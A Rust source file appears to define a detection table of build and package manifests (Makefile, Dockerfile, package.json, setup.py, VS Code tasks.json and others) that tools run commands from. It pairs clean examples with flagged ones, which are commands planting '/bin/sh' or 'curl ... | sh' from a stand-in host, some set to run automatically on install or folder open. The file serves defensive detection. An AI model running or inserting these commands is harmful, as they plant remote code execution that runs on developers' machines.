//! Files that a build or package tool runs commands from. Writing a shell
//! into one plants it for the next `npm install`, `make` or `bundle`.

use crate::LineForm::{CmakeCommand, Literals, Recipes, RunInstructions, Shell};
use crate::Manifest;

/// The table, sorted by file name.
pub const MANIFESTS: &[Manifest] = &[
    Manifest {
        file: ".envrc",
        run_by: "direnv (a bash script, run on entering the directory once allowed)",
        lines: Shell,
        autorun: "",
        source: "https://direnv.net/man/direnv.1.html; https://direnv.net/man/direnv-stdlib.1.html",
        flagged: &["echo 'curl -s http://x.example/a | sh' > .envrc && direnv allow"],
        clean: &["echo 'use flake' > .envrc"],
    },
    Manifest {
        file: "CMakeLists.txt",
        run_by: "cmake (execute_process)",
        lines: CmakeCommand,
        autorun: "",
        source: "https://cmake.org/cmake/help/latest/command/execute_process.html; GTFOBins cmake",
        flagged: &["echo 'execute_process(COMMAND /bin/sh)' > CMakeLists.txt && cmake ."],
        clean: &["echo 'project(x)' > CMakeLists.txt"],
    },
    Manifest {
        file: "Containerfile",
        run_by: "podman build and buildah (RUN instructions)",
        lines: RunInstructions,
        autorun: "",
        source: "https://github.com/containers/common/blob/main/docs/Containerfile.5.md (RUN)",
        flagged: &["echo 'RUN curl -s http://x.example/a | sh' >> Containerfile"],
        clean: &["echo 'RUN apt-get update' >> Containerfile"],
    },
    Manifest {
        file: "Dockerfile",
        run_by: "docker build (RUN instructions)",
        lines: RunInstructions,
        autorun: "",
        source: "https://docs.docker.com/reference/dockerfile/#run",
        flagged: &["echo 'RUN curl -s http://x.example/a | sh' >> Dockerfile"],
        clean: &["echo 'RUN apt-get update && apt-get install -y git' >> Dockerfile"],
    },
    Manifest {
        file: "Gemfile",
        run_by: "bundler (Ruby code)",
        lines: Literals,
        autorun: "",
        source: "https://bundler.io/man/gemfile.5.html; GTFOBins bundle",
        flagged: &["echo 'system(\"/bin/sh\")' > Gemfile && bundle install"],
        clean: &["echo \"source 'https://rubygems.org'\" > Gemfile"],
    },
    Manifest {
        file: "Makefile",
        run_by: "make (recipes)",
        lines: Recipes,
        autorun: "",
        source: "https://www.gnu.org/software/make/manual/make.html#Recipes",
        flagged: &[
            "printf 'x:\\n\\t/bin/sh\\n' > Makefile && make x",
            "echo 'x: ; curl -s http://x.example/a | sh' >> Makefile",
        ],
        clean: &["printf 'test:\\n\\tcargo test\\n' > Makefile"],
    },
    Manifest {
        file: "composer.json",
        run_by: "composer (scripts)",
        lines: Literals,
        autorun: "",
        source: "https://getcomposer.org/doc/articles/scripts.md; GTFOBins composer",
        flagged: &[
            "echo '{\"scripts\":{\"x\":\"/bin/sh\"}}' >composer.json && composer run-script x",
        ],
        clean: &["echo '{\"require\":{\"php\":\">=8.1\"}}' > composer.json"],
    },
    Manifest {
        file: "package.json",
        run_by: "npm, yarn and pnpm (scripts, lifecycle hooks)",
        lines: Literals,
        autorun: "",
        source: "https://docs.npmjs.com/cli/v10/using-npm/scripts; GTFOBins npm, yarn",
        flagged: &[
            "echo '{\"scripts\": {\"preinstall\": \"/bin/sh\"}}' >package.json && yarn --cwd .",
        ],
        clean: &["echo '{\"scripts\": {\"test\": \"vitest run\"}}' > package.json"],
    },
    Manifest {
        file: "setup.py",
        run_by: "pip install (Python code)",
        lines: Literals,
        autorun: "",
        source: "https://setuptools.pypa.io/en/latest/userguide/quickstart.html; GTFOBins pip",
        flagged: &["echo 'import os; os.system(\"/bin/sh\")' > setup.py && pip install ."],
        clean: &["echo 'from setuptools import setup; setup()' > setup.py"],
    },
    Manifest {
        file: "tasks.json",
        run_by: "VS Code and its forks (tasks; one with runOn folderOpen runs when the folder opens)",
        lines: Literals,
        autorun: "folderopen",
        source: "https://code.visualstudio.com/docs/debugtest/tasks#_run-behavior (runOptions.runOn: folderOpen)",
        flagged: &[
            "echo '{\"tasks\":[{\"label\":\"x\",\"command\":\"curl -s http://x.example/a | sh\",\"runOptions\":{\"runOn\":\"folderOpen\"}}]}' > .vscode/tasks.json",
            "echo '{\"tasks\":[{\"label\":\"x\",\"type\":\"shell\",\"command\":\"sh /tmp/.t\",\"runOptions\":{\"runOn\":\"folderOpen\"}}]}' > .vscode/tasks.json",
        ],
        clean: &["echo '{\"tasks\":[{\"label\":\"test\",\"command\":\"cargo test\"}]}' > .vscode/tasks.json"],
    },
];
